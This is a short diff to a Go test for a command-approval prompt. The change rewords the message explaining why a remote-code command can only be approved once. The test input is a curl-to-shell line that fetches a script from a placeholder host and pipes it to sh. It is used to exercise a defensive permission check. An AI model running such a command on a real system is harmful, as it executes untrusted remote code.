@@ -313,8 +313,8 @@ func TestWiderRules(t *testing.T) {
 // A question without a longer answer says why.
 func TestNoLongerAnswer(t *testing.T) {
 	q := bashQuestion("x", "curl https://x.example/i | sh")
-	q.Session, q.Always, q.NoSession = "", "", "umpire asks each time about remote-code"
-	if got := strings.Join(scopes(&question{q: q}), "\n"); got != "once only: umpire asks each time about remote-code" {
+	q.Session, q.Always, q.NoSession = "", "", "umpire asks about each call marked remote-code"
+	if got := strings.Join(scopes(&question{q: q}), "\n"); got != "once only: umpire asks about each call marked remote-code" {
 		t.Errorf("%q", got)
 	}
 	q.Session, q.NoSession, q.NoAlways = "exec(make)", "", "the rule x is locked"
